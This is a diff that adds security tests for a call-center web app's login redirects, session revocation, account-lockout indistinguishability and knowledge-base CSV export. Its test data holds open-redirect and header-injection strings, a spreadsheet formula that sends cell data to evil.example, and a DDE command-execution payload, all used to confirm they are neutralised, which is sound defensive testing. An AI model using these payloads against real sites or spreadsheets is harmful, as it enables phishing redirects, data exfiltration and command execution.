@@ -2,11 +2,18 @@
 
 from __future__ import annotations
 
+import asyncio
+import csv
+import io
 import re
+import statistics
+import time
 
 from aiohttp import web
 
+from callcenter.accounts.passwords import verify_password
 from callcenter.web import keys as web_keys
+from callcenter.web.security import COOKIE_NAME
 from webtools import PASSWORD, csrf_of, login
 
 PUBLIC = {"/login", "/health"}
@@ -118,8 +125,8 @@ async def test_repeated_failures_lock_the_account_until_an_admin_unlocks_it(app_
         assert response.status == 401
     page = await (await app_client.get("/login")).text()
     response = await app_client.post("/login", data={"username": "op2", "password": PASSWORD, "csrf_token": csrf_of(page)})
-    assert response.status == 423  # locked: even the right password is refused
-    assert 'data-error="locked"' in await response.text()
+    assert response.status == 401  # locked: even the right password is refused (answered as a wrong one)
+    assert 'data-error="failed"' in await response.text()
     # unknown users answer like wrong passwords (no user enumeration)
     page = await (await app_client.get("/login")).text()
     response = await app_client.post("/login", data={"username": "nobody", "password": "x" * 12, "csrf_token": csrf_of(page)})
@@ -169,3 +176,147 @@ async def test_what_a_user_typed_is_escaped_in_pages(app_client):
     assert "<script>alert(1)" not in body and "&lt;script&gt;" in body
     response = await app_client.get("/login", params={"next": "//evil.example/"})
     assert "evil.example" not in await response.text()  # only local paths are kept as "next"
+
+
+# -- issue 12, holes 1, 2, 4 and 6 -------------------------------------------------------------------
+
+FOREIGN_NEXTS = [
+    "/%09/evil.example", "/\t/evil.example", "/%0D/evil.example", "/\r/evil.example", "/\n/evil.example",
+    "/%0A/evil.example", "//evil.example", "///evil.example", "/\\evil.example", "\\\\evil.example",
+    "/%5Cevil.example", "/%2F/evil.example", "https://evil.example/", "http:/evil.example", "javascript:alert(1)",
+    " /agent", "/agent/../..//evil.example", "/./agent", "/kb?q=%0D%0ASet-Cookie:x=1", "/kb?q=\\evil",
+    "/agent#//evil.example", "/no/such/page", "/api/me", "/logout", "/login", "/ws", "/static/app.css", "",
+    "/\x00/evil.example", "/agent\u2028", "/%E3%80%80/evil.example",
+]
+
+
+async def test_next_after_login_is_only_a_page_of_ours(app_client):
+    for target in FOREIGN_NEXTS:
+        app_client.session.cookie_jar.clear()
+        page = await (await app_client.get("/login", params={"next": target})).text()
+        assert 'name="next" value=""' in page, target
+        response = await app_client.post(
+            "/login", data={"username": "op1", "password": PASSWORD, "csrf_token": csrf_of(page), "next": target},
+            allow_redirects=False,
+        )
+        assert response.status == 302, target
+        assert response.headers["Location"] == "/agent", (target, response.headers["Location"])  # the role's home
+    # a page of ours is kept, with its query; the round trip through the login redirect too
+    for target in ("/kb", "/wallboard", "/", "/reports?from=2025-01-01&to=2025-01-31", "/kb?q=%E5%8F%91%E7%83%A7"):
+        app_client.session.cookie_jar.clear()
+        page = await (await app_client.get("/login", params={"next": target})).text()
+        response = await app_client.post(
+            "/login", data={"username": "boss", "password": PASSWORD, "csrf_token": csrf_of(page), "next": target},
+            allow_redirects=False,
+        )
+        assert response.headers["Location"] == target
+    app_client.session.cookie_jar.clear()
+    bounced = await app_client.get("/reports?from=2025-01-01&to=2025-01-31", allow_redirects=False)
+    page = await (await app_client.get(bounced.headers["Location"])).text()
+    kept = re.search(r'name="next" value="([^"]*)"', page).group(1).replace("&amp;", "&")
+    assert kept == "/reports?from=2025-01-01&to=2025-01-31"
+
+
+def _cookie(client) -> str:
+    return next(c.value for c in client.session.cookie_jar if c.key == COOKIE_NAME)
+
+
+async def _with_cookie(client, cookie: str, path: str):
+    client.session.cookie_jar.clear()
+    return await client.get(path, headers={"Cookie": f"{COOKIE_NAME}={cookie}"}, allow_redirects=False)
+
+
+async def test_logout_and_password_change_end_the_session_on_the_server(app_client):
+    csrf = await login(app_client, "op1")
+    first = _cookie(app_client)
+    app_client.session.cookie_jar.clear()
+    await login(app_client, "op1")  # the same user in a second browser
+    second = _cookie(app_client)
+    assert (await _with_cookie(app_client, first, "/api/me")).status == 200
+    response = await app_client.post("/logout", data={"csrf_token": csrf}, headers={"Cookie": f"{COOKIE_NAME}={first}"},
+                                     allow_redirects=False)
+    assert response.status == 302
+    # a copy of the logged-out cookie is refused everywhere...
+    assert (await _with_cookie(app_client, first, "/api/me")).status == 401
+    assert (await _with_cookie(app_client, first, "/api/agent/state")).status == 401
+    page = await _with_cookie(app_client, first, "/agent")
+    assert page.status == 302 and page.headers["Location"].startswith("/login")
+    # ...while the other browser's session goes on, until the password changes
+    assert (await _with_cookie(app_client, second, "/api/me")).status == 200
+    app_client.session.cookie_jar.clear()
+    root_csrf = await login(app_client, "root")
+    op1 = await app_client.server.app[web_keys.ACCOUNTS].by_name("op1")
+    changed = await app_client.post(f"/api/admin/users/{op1.id}/password", json={"password": "another good password"},
+                                    headers={"X-CSRF-Token": root_csrf})
+    assert changed.status == 200, await changed.text()
+    assert (await _with_cookie(app_client, second, "/api/me")).status == 401
+    assert (await _with_cookie(app_client, second, "/agent")).status == 302
+
+
+async def _attempt(client, username: str, password: str) -> tuple[int, str, float]:
+    client.session.cookie_jar.clear()
+    page = await (await client.get("/login")).text()
+    started = time.perf_counter()
+    response = await client.post("/login", data={"username": username, "password": password, "csrf_token": csrf_of(page)})
+    took = time.perf_counter() - started
+    body = (await response.text()).replace(f'value="{username}"', 'value=""')  # the name typed is shown again
+    body = re.sub(r'(name="csrf_token" value=|name="csrf-token" content=)"[^"]*"', r'\1""', body)  # per session
+    return response.status, body, took
+
+
+async def test_locked_and_unknown_accounts_get_the_same_answer(app_client):
+    app_client.server.app[web_keys.THROTTLE].limit = 0  # this test makes more attempts than one address may
+    for _ in range(5):
+        status, _, _ = await _attempt(app_client, "op2", "wrong password!")
+        assert status == 401
+    answers = {
+        "locked, right password": [await _attempt(app_client, "op2", PASSWORD) for _ in range(3)],
+        "locked, wrong password": [await _attempt(app_client, "op2", "wrong password!") for _ in range(3)],
+        "unknown": [await _attempt(app_client, "nobody", "wrong password!") for _ in range(3)],
+        "unknown, similar name": [await _attempt(app_client, "op9", PASSWORD) for _ in range(3)],
+    }
+    seen = {(status, body) for attempts in answers.values() for status, body, _ in attempts}
+    assert len(seen) == 1, {k: [(s, re.findall(r'data-error="[^"]*"', b)) for s, b, _ in v] for k, v in answers.items()}
+    assert next(iter(seen))[0] == 401
+    # and about as long: every answer costs an argon2 verification, known name or not
+    started = time.perf_counter()
+    await asyncio.to_thread(verify_password, None, "x" * 12)
+    one_hash = time.perf_counter() - started
+    medians = {k: statistics.median(t for _, _, t in v) for k, v in answers.items()}
+    assert min(medians.values()) > 0.5 * one_hash, (medians, one_hash)
+    assert max(medians.values()) < 3 * min(medians.values()), medians
+
+
+FORMULAS = {
+    "question": '=HYPERLINK("http://evil.example/?"&A1,"点我")',
+    "answer": "+1+cmd|' /C calc'!A0",
+    "keywords": "-2+3",
+    "department": "@SUM(1+1)",
+}
+
+
+async def test_kb_csv_export_neutralises_formulas_and_imports_back(app_client):
+    csrf = await login(app_client, "boss")
+    headers = {"X-CSRF-Token": csrf}
+    created = await app_client.post("/api/kb/entries", json=FORMULAS, headers=headers)
+    assert created.status == 201, await created.text()
+    entry_id = (await created.json())["id"]
+    plain = await app_client.post("/api/kb/entries", json={"question": "'quoted on purpose", "answer": "'=1+1 as text"},
+                                  headers=headers)
+    plain_id = (await plain.json())["id"]
+    exported = await (await app_client.get("/api/kb/export.csv")).read()
+    rows = list(csv.DictReader(io.StringIO(exported.decode("utf-8-sig"))))
+    for row in rows:
+        for name, cell in row.items():
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
+    row = next(r for r in rows if r["id"] == str(entry_id))
+    assert {name: row[name] for name in FORMULAS} == {name: "'" + text for name, text in FORMULAS.items()}
+    # importing the export changes nothing: the quotes come off again
+    imported = await app_client.post("/api/kb/import", data=exported,
+                                     headers={**headers, "Content-Type": "text/csv"})
+    assert imported.status == 200, await imported.text()
+    assert (await imported.json())["updated"] == 0
+    entry = await (await app_client.get(f"/api/kb/entries/{entry_id}")).json()
+    assert {name: entry[name] for name in FORMULAS} == FORMULAS
+    entry = await (await app_client.get(f"/api/kb/entries/{plain_id}")).json()
+    assert (entry["question"], entry["answer"]) == ("'quoted on purpose", "'=1+1 as text")
